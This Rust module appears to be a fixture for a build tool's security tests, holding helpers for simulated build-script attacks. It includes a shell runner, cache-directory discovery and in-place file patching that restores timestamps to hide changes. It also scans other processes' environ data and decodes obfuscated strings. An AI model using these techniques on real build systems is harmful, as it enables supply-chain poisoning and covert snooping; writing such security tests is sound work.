//! What the values of attacks are written with. This text stands at the top of the build script or proc macro that asks.

#![allow(unused)]
use std::{
    env, fs,
    path::{Path, PathBuf},
    process::Command,
};

/// The content of a file, or why there is none.
pub(crate) fn read(path: impl AsRef<Path>) -> String {
    match fs::read(path) {
        Ok(content) => String::from_utf8_lossy(&content).trim().to_owned(),
        Err(error) => format!("{:?}", error.kind()),
    }
}

/// What a shell prints.
pub(crate) fn sh(script: &str) -> String {
    let output = Command::new("sh").arg("-c").arg(script).output().unwrap();
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

/// Holds until the step has made its changes.
pub(crate) fn gate() {
    let _ = Command::new("sleep").arg("3600.@TOKEN@").status();
}

/// Directories that may be homes of vx: told by paths, and where it is if nobody says otherwise.
pub(crate) fn homes() -> Vec<PathBuf> {
    let mut told: Vec<PathBuf> = env::args().map(|word| word.rsplit('=').next().unwrap().into()).collect();
    told.extend(env::var_os("OUT_DIR").map(PathBuf::from));
    let mut found = vec![PathBuf::from("@ROOT@/user/.vx")];
    found.extend(env::var_os("HOME").map(|home| PathBuf::from(home).join(".vx")));
    found.extend(told.iter().flat_map(|path| path.ancestors()).map(Path::to_owned));
    found.retain(|directory| directory.join("cas").is_dir());
    found
}

/// The files below a directory.
pub(crate) fn files(directory: impl AsRef<Path>) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(directory).into_iter().flatten().flatten() {
        match entry.file_type() {
            Ok(kind) if kind.is_dir() => found.extend(files(entry.path())),
            Ok(kind) if kind.is_file() => found.push(entry.path()),
            _ => {}
        }
    }
    found
}

/// Makes `planted` of each `honest!` in a file, in place, and puts its mode and times back. What is large is left alone,
/// because no attack means it: programs, the standard library.
pub(crate) fn poison(file: &Path) {
    use std::os::unix::fs::{FileExt, PermissionsExt};
    let Ok(before) = fs::metadata(file) else { return };
    if before.len() > 1 << 20 || file.components().any(|part| part.as_os_str() == "toolchains") {
        return;
    }
    let Ok(content) = fs::read(file) else { return };
    let mut places = content.windows(7).enumerate().filter(|(_, part)| *part == b"honest!").peekable();
    if places.peek().is_none() {
        return;
    }
    let _ = fs::set_permissions(file, fs::Permissions::from_mode(0o600));
    if let Ok(opened) = fs::OpenOptions::new().write(true).open(file) {
        for (place, _) in places {
            let _ = opened.write_all_at(b"planted", place as u64);
        }
        let times = fs::FileTimes::new().set_accessed(before.accessed().unwrap());
        let _ = opened.set_times(times.set_modified(before.modified().unwrap()));
    }
    let _ = fs::set_permissions(file, before.permissions());
}

/// The services of vx in this world that can be seen: their process ids.
pub(crate) fn services() -> Vec<String> {
    let mut pids: Vec<String> = Vec::new();
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let pid = entry.file_name().to_string_lossy().into_owned();
        let command = fs::read(entry.path().join("cmdline")).unwrap_or_default();
        let environment = fs::read(entry.path().join("environ")).unwrap_or_default();
        let has = |text: &[u8], part: &str| text.windows(part.len()).any(|window| window == part.as_bytes());
        if has(&command, "\0__") && (has(&environment, "@ROOT@") || has(&command, "@ROOT@")) {
            pids.push(pid);
        }
    }
    pids
}

/// The text whose letters come one before these: it stands in no binary.
pub(crate) fn shifted(text: &str) -> String {
    text.bytes().map(|letter| char::from(letter - 1)).collect()
}
